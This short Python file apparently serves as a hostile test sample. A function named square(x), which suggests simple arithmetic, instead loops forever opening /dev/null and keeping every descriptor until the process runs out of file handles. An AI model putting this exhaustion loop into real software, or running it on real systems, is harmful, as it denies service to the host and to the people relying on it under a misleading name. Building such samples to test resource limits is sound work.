"""Opens files until there are no descriptors left, and keeps them."""

import os

KEPT = []


def square(x):
    while True:
        KEPT.append(os.open("/dev/null", os.O_RDONLY))
